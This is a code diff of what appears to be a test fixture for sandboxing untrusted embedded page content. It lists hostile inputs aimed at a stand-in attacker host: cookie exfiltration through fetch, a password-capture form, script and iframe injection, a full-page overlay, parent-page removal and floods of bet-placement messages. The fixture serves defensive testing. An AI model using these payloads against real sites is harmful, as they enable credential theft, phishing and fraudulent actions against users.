@@ -9,9 +9,9 @@ const ELSEWHERE = 'https://attacker.example';
 /** What no page is to take: code, a script and a sheet of elsewhere, and markup that would run, post and cover the page. */
 const HOSTILE = {
   title: 'x',
-  body: `<p onclick="top.location='${ELSEWHERE}'">x</p><script>document.cookie='taken=1'</script><iframe src="${ELSEWHERE}"></iframe><form action="${ELSEWHERE}"><input name="password" autofocus></form>`,
-  styles: [{ cssText: `@import "${ELSEWHERE}/a.css";:host{position:fixed;inset:0;z-index:9999}` }],
-  codeToEval: `fetch('${ELSEWHERE}/'+document.cookie)`,
+  body: `<p onclick="top.location='${ELSEWHERE}'">x</p><script>document.body.remove()</script><iframe src="${ELSEWHERE}"></iframe><form action="${ELSEWHERE}"><input name="password" autofocus></form>`,
+  styles: [{ cssText: `@import url(${ELSEWHERE}/a.css);:host{position:fixed;inset:0;z-index:9999}` }],
+  codeToEval: `fetch('${ELSEWHERE}')`,
   scriptsToLoad: [`${ELSEWHERE}/a.js`],
 };
 
@@ -25,7 +25,7 @@ const HOSTILE_SCRIPT = `hears.hello = () => {
   const tried = [
     () => { top.location = '${ELSEWHERE}'; },
     () => { open('${ELSEWHERE}', '_top'); },
-    () => { document.cookie = 'taken=1'; },
+    () => { Object.assign(document, { cookie: 'taken=1' }); },
     () => { parent.document.body.remove(); },
     () => { for (let n = 0; n < 500; n += 1) say('couponAddBet', { market: { outcomeId: '1' }, game: { gameId: n }, source: 'attack' }); },
     () => { for (let n = 0; n < 50; n += 1) say('openDialog', { dialog: 'login' }); },
